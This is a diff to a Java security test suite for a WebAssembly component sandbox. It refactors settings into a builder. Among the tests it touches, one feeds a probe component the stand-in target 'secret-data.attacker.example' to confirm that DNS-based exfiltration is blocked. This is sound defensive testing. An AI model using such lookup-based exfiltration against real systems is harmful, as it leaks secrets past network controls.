@@ -75,9 +75,8 @@ class SecuritySuiteTest {
                 }
             }
         });
-        ComponentHost.Settings settings = new ComponentHost.Settings(tmp.resolve("components"), tmp.resolve("secrets"), tmp,
-                Map.of("HOME", "/root", "PATH", "/usr/bin", "API_KEY", "granted-value"), Map.of(), Map.of(), Map.of(),
-                Duration.ofSeconds(5), 64 * 1024);
+        ComponentHost.Settings settings = ComponentHost.Settings.builder().componentDir(tmp.resolve("components")).secretsDir(tmp.resolve("secrets")).baseDir(tmp)
+                .processEnv(Map.of("HOME", "/root", "PATH", "/usr/bin", "API_KEY", "granted-value")).callTimeout(Duration.ofSeconds(5)).maxResultBytes(64 * 1024).build();
         host = new ComponentHost(Fixtures.engine(), settings);
         for (String name : List.of("types", "io", "fetch", "spin", "bomb", "netprobe")) {
             host.load(name, Files.readAllBytes(Fixtures.path(name + ".wasm")));
@@ -203,9 +202,8 @@ class SecuritySuiteTest {
     void rawTcpConnectToDeniedAddress() throws Exception {
         policy("netprobe", "  environment:\n    allow: [{key: NETPROBE_ACTION}, {key: NETPROBE_TARGET}]\n"
                 + "  network:\n    allow: [{cidr: \"10.0.0.0/8\"}]\n");
-        ComponentHost probing = new ComponentHost(Fixtures.engine(), new ComponentHost.Settings(tmp.resolve("components"),
-                tmp.resolve("secrets"), tmp, Map.of(), Map.of(), Map.of(),
-                Map.of("NETPROBE_ACTION", "tcp", "NETPROBE_TARGET", "127.0.0.1:" + tcp.getLocalPort()), Duration.ofSeconds(5), 1 << 20));
+        ComponentHost probing = new ComponentHost(Fixtures.engine(), ComponentHost.Settings.builder().componentDir(tmp.resolve("components")).secretsDir(tmp.resolve("secrets")).baseDir(tmp)
+                .processEnv(Map.of()).explicitEnv(Map.of("NETPROBE_ACTION", "tcp", "NETPROBE_TARGET", "127.0.0.1:" + tcp.getLocalPort())).callTimeout(Duration.ofSeconds(5)).maxResultBytes(1 << 20).build());
         try (probing) {
             probing.loadAll();
             ExportedFunction run = probing.component("netprobe").sandbox().component().export("wasi:cli/run@0.2.0#run");
@@ -220,9 +218,8 @@ class SecuritySuiteTest {
     void dnsExfiltrationThroughNameLookupsIsClosed() throws Exception {
         // A guest without network rules cannot resolve names at all (a lookup alone reaches a DNS server).
         policy("netprobe", "  environment:\n    allow: [{key: NETPROBE_ACTION}, {key: NETPROBE_TARGET}]\n");
-        ComponentHost probing = new ComponentHost(Fixtures.engine(), new ComponentHost.Settings(tmp.resolve("components"),
-                tmp.resolve("secrets"), tmp, Map.of(), Map.of(), Map.of(),
-                Map.of("NETPROBE_ACTION", "resolve", "NETPROBE_TARGET", "secret-data.attacker.example:443"), Duration.ofSeconds(5), 1 << 20));
+        ComponentHost probing = new ComponentHost(Fixtures.engine(), ComponentHost.Settings.builder().componentDir(tmp.resolve("components")).secretsDir(tmp.resolve("secrets")).baseDir(tmp)
+                .processEnv(Map.of()).explicitEnv(Map.of("NETPROBE_ACTION", "resolve", "NETPROBE_TARGET", "secret-data.attacker.example:443")).callTimeout(Duration.ofSeconds(5)).maxResultBytes(1 << 20).build());
         try (probing) {
             probing.loadAll();
             ExportedFunction run = probing.component("netprobe").sandbox().component().export("wasi:cli/run@0.2.0#run");
